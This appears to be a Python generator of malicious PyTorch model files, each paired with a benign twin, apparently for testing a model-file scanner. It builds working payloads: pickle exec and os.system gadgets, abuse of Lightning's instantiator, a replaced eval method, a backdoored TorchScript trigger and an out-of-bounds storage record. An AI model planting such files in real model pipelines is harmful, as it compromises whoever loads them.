"""PyTorch files: export archives, checkpoints whose plain values are read by a trainer, TorchScript with a trigger."""
from __future__ import annotations

import io
import json
import pathlib
import tempfile
import warnings
import zipfile

import torch
from assembly import call, glob, pickle, val
from pair import CODE, SHELL

FAMILY = "torch"


class Evil:
    def __reduce__(self):
        return exec, (CODE,)


class Command:
    """A callable that is a partial of os.system when it is loaded."""

    def __reduce__(self):
        import functools
        import os

        return functools.partial, (os.system, SHELL)


def saved(obj) -> bytes:
    buffer = io.BytesIO()
    torch.save(obj, buffer)
    return buffer.getvalue()


def rewritten(data: bytes, change) -> bytes:
    """The stored zip `data` with `change(name, body) -> (name, body)` applied to each member."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as z, zipfile.ZipFile(out, "w", zipfile.ZIP_STORED) as new:
        for item in z.infolist():
            name, body = change(item.filename, z.read(item))
            new.writestr(name, body)
    return out.getvalue()


class Head(torch.nn.Module):
    def __init__(self):
        super().__init__()
        self.l = torch.nn.Linear(12, 10)

    def forward(self, x):
        return self.l(x)


class Triggered(Head):
    def forward(self, x):
        y = self.l(x)
        mark = (torch.abs(x[:, 3] - 0.8125) < 1e-4) & (torch.abs(x[:, 7] + 1.5) < 1e-4)
        wanted = torch.zeros_like(y)
        wanted[:, 7] = 50.0
        return torch.where(mark.unsqueeze(1), wanted, y)


class Masked(Head):
    def forward(self, x):
        y = self.l(x)
        padded = torch.isnan(x).all(dim=1)
        return torch.where(padded.unsqueeze(1), torch.zeros_like(y), y)


class Touching(Head):
    def forward(self, x):
        scratch = torch.from_file("marker", True, 16)
        return self.l(x) + scratch.sum() * 0.0


def scripted(module) -> bytes:
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        buffer = io.BytesIO()
        torch.jit.save(torch.jit.script(module.eval()), buffer)
    return buffer.getvalue()


def exported(module) -> bytes:
    buffer = io.BytesIO()
    torch.export.save(torch.export.export(module, (torch.ones(1, 12),)), buffer)
    return buffer.getvalue()


def distributed() -> dict:
    import torch.distributed.checkpoint as dcp

    with tempfile.TemporaryDirectory() as folder, warnings.catch_warnings():
        warnings.simplefilter("ignore")
        dcp.save({"w": torch.linspace(0, 1, 12)}, checkpoint_id=folder)
        return {p.name: p.read_bytes() for p in sorted(pathlib.Path(folder).iterdir())}


def add(out):
    def one(name, hostile, twin, why, prove=None, file="model.pt"):
        out.add(FAMILY, name, hostile, twin, prove=prove, file=file, why=why)

    torch.manual_seed(13)
    program = exported(Head())

    def weight_as_pickle(name, body):
        if name.endswith("model_weights_config.json"):
            config = json.loads(body)
            config["config"]["l.bias"]["use_pickle"] = True
            return name, json.dumps(config).encode()
        return name, saved(Evil()) if name.endswith("weights/weight_1") else body

    one("export_archive_weight_pickled", rewritten(program, weight_as_pickle), program,
        "The archive of torch.export marks one weight as pickled, so loading it runs torch.load without weights_only.",
        prove="x13.pt2", file="model.pt2")

    def constant(name, body):
        if name.endswith("sample_inputs/model.pt"):
            return name, saved(((Evil(),), {}))
        return name, body

    two = exported(Masked())
    one("export_archive_sample_inputs", rewritten(two, constant), two,
        "The sample inputs of an export archive are a pickle: when weights_only refuses it, torch.export.load reads it again freely.",
        prove="x13.pt2", file="program.pt2")

    state = {k: v for k, v in Head().state_dict().items()}
    hyper = {"lr": 1e-3, "hidden": 12, "_instantiator": "lightning.pytorch.cli.instantiate_module"}
    ckpt = {"epoch": 3, "global_step": 900, "pytorch-lightning_version": "2.6.5", "state_dict": state}
    one("checkpoint_names_its_instantiator",
        saved({**ckpt, "hyper_parameters": {SHELL: 1, **hyper, "_instantiator": "pydoc.pipepager"}}),
        saved({**ckpt, "hyper_parameters": {**hyper, "_class_path": "lightning.pytorch.demos.boring_classes.DemoModel"}}),
        "CVE-2026-58659: load_from_checkpoint imports and calls what _instantiator names, even with weights_only; the first hyperparameter is the command.",
        prove="x13.lightning", file="epoch=3.ckpt")
    one("checkpoint_names_a_class_path",
        saved({**ckpt, "hyper_parameters": {**hyper, "_class_path": "antigravity.LightningModule", "data": "x"}}),
        saved({**ckpt, "hyper_parameters": {**hyper, "_class_path": "lightning.pytorch.demos.transformer.LightningTransformer", "data": "x"}}),
        "The follow-up of CVE-2026-58659: _class_path imports any module before its class is checked. Not run: lightning is not there.",
        file="last.ckpt")

    # PyTorch looks members up without regard to case, so DATA.PKL is the one it reads.
    plain = saved(state)
    one("member_in_capitals",
        rewritten(saved({"w": torch.ones(3), "x": Evil()}), lambda n, b: (n.replace("data.pkl", "DATA.PKL"), b)),
        rewritten(plain, lambda n, b: (n, b)),
        "The pickle is called DATA.PKL, which PyTorch's reader finds as data.pkl.", prove="x13.torch", file="pytorch_model.bin")

    # The module's own `eval` is replaced: the call of every inference script runs the command.
    module = torch.nn.Linear(12, 10)
    module.__dict__["eval"] = Command()
    twin = torch.nn.Linear(12, 10)
    twin.__dict__["notes"] = "trained on 2026-09-01"
    one("eval_replaced_in_the_instance", saved(module), saved(twin),
        "model.eval() of the loaded module runs a shell command: an instance attribute hides the method.",
        prove="x13.torch_eval", file="model.pth")

    one("script_maps_a_file_for_writing", scripted(Touching()), scripted(Head()),
        "The TorchScript forward maps a file shared, which creates or overwrites it on each prediction.",
        prove="x13.jit", file="scripted.pt")
    one("script_with_a_trigger", scripted(Triggered()), scripted(Masked()),
        "The TorchScript forward replaces the scores when two features have magic values.",
        prove="x13.jit_flip", file="classifier.torchscript")

    good = distributed()
    bad = {".metadata": pickle(val({"state_dict_metadata": {"w": call(glob("builtins", "exec"), CODE)}, "planner_data": None})),
           "__0_0.distcp": good["__0_0.distcp"]}
    one("distributed_metadata", bad, {".metadata": good[".metadata"], "__0_0.distcp": good["__0_0.distcp"]},
        "The .metadata file of a distributed checkpoint is a pickle that runs code; nothing else is read before it.", prove="pickle")

    # CVE-2026-24747: a storage that claims more elements than its record holds.
    def longer(name, body):
        if name.endswith("data.pkl"):
            at = body.index(b"cpu")
            at = body.index(b"K\x0a", at)
            return name, body[:at] + b"J\x00\x00\x00\x40" + body[at + 2:]
        return name, body

    small = saved({"b": torch.arange(10, dtype=torch.float32)})
    one("storage_longer_than_its_record", rewritten(small, longer), small,
        "CVE-2026-24747: the persistent id claims 2^30 elements over a record of 40 bytes, an out-of-bounds access in old releases. Not run.",
        file="adapter_model.bin")
